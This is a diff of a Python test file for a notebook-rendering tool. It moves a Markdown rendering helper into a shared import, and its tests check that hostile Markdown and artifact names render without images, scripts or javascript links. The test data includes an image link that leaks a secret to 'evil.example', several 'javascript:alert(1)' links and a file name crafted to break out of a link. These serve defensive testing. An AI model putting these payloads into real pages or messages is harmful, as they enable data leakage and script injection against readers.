@@ -8,6 +8,7 @@ import zlib
 from pathlib import Path
 
 import pytest
+from nb_markdown import rendered
 from nb_rounds import HOSTILE, analysis_round
 
 from twnb.memory import Attachment, AttachmentType, Post, PromptUtil, derive_plan
@@ -86,13 +87,6 @@ def test_plan_from_round_follows_the_planner_posts_to_the_end():
     assert [s.state for s in plan.subtasks] == ["done", "done"]
 
 
-def _rendered(markdown: str) -> str:
-    """The HTML nbconvert (so nbviewer) makes of a Markdown output."""
-    from nbconvert.filters.markdown_mistune import markdown2html_mistune
-
-    return markdown2html_mistune(markdown)
-
-
 HOSTILE_MARKDOWN = [
     "![chart](https://evil.example/leak.png?q=secret)",  # would load (and leak) on render
     "[click me](javascript:alert(1))",
@@ -106,14 +100,14 @@ HOSTILE_MARKDOWN = [
 
 @pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
 def test_hostile_message_renders_without_elements_links_or_images(text):
-    html = _rendered(round_bundle(analysis_round(message=text), session_id="s-1")["text/markdown"])
+    html = rendered(round_bundle(analysis_round(message=text), session_id="s-1")["text/markdown"])
     assert "<img" not in html and "<script" not in html
     assert 'href="javascript' not in html
 
 
 def test_escaped_markdown_still_reads_as_the_text():
     text = "Use `df['a'] < 3` and [x] & y\n```python\nprint('<b>')\n```"
-    html = _rendered(escape_markdown(text))
+    html = rendered(escape_markdown(text))
     assert "<code>df['a'] &lt; 3</code>" in html
     assert "[x] &amp; y" in html
     assert "print" in html and "&lt;b&gt;" in html
@@ -252,7 +246,7 @@ def test_hostile_artifact_name_cannot_pick_a_scheme_or_end_the_link(tmp_path):
     _png(tmp_path / "d" / "javascript:alert(1))![x](https:evil.png", 4, 4)
     round = _with_artifact(analysis_round(), "d/javascript:alert(1))![x](https:evil.png")
     bundle = round_bundle(round, session_id="s", previews=artifact_previews(round, tmp_path))
-    html = _rendered(bundle["text/markdown"])
+    html = rendered(bundle["text/markdown"])
     encoded = "d/javascript%3Aalert%281%29%29%21%5Bx%5D%28https%3Aevil.png"
     assert re.findall(r'<img src="([^"]*)"', html) == [encoded]
     assert 'href="javascript' not in html
